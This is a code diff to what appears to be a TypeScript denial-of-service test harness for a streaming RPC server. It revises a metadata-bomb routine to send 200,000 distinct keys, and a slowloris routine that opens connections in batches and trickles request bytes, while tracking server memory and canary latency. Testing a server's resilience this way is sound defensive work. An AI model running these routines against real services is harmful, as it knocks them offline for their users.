@@ -179,7 +179,8 @@ export async function metadataBomb(
   const sampler = new RssSampler(target.pid);
   const canary = new Canary(target.socket, { gapMs: 1 });
   await sleep(200);
-  const metadata = Array.from({ length: entries }, (_, i) => [`k${i % 1000}`, "v"] as const);
+  // Distinct keys (as in the issue: 200,000 entries = 3.3 MB): each is its own Metadata key.
+  const metadata = Array.from({ length: entries }, (_, i) => [`key-${i}`, "v"] as const);
   const body = request({ service: STREAMING, method: "Echo", payload: echoPayload(1), metadata });
   const c = new RawConn(target.socket, { parse: false });
   await c.connected();
@@ -253,13 +254,17 @@ export async function slowloris(
   const base = rssOf(target.pid).rss;
   const sampler = new RssSampler(target.pid);
   const canary = new Canary(target.socket, { gapMs: 5 });
-  const conns = await Promise.all(
-    Array.from({ length: n }, async () => {
-      const c = new RawConn(target.socket, { parse: false });
-      await c.connected().catch(() => {});
-      return c;
-    }),
-  );
+  // Connected 100 at a time: a burst beyond the listen backlog would be refused, not attacked.
+  const conns: RawConn[] = [];
+  let refused = 0;
+  for (let i = 0; i < n; i += 100) {
+    const batch = Array.from(
+      { length: Math.min(100, n - i) },
+      () => new RawConn(target.socket, { parse: false }),
+    );
+    await Promise.all(batch.map((c) => c.connected().catch(() => void refused++)));
+    conns.push(...batch);
+  }
   // A Request header that announces 1,000 bytes, and then its bytes one at a time.
   const frame = Buffer.concat([Buffer.from([0, 0, 3, 0xe8, 0, 0, 0, 1, 1, 0]), Buffer.alloc(1000)]);
   for (let i = 0; performance.now() - t0 < ms; i++) {
@@ -282,6 +287,7 @@ export async function slowloris(
     undefined,
     {
       heldOpen: open,
+      refused,
       canaryP99ms: lat.p99,
       canaryFailed: lat.failed,
     },
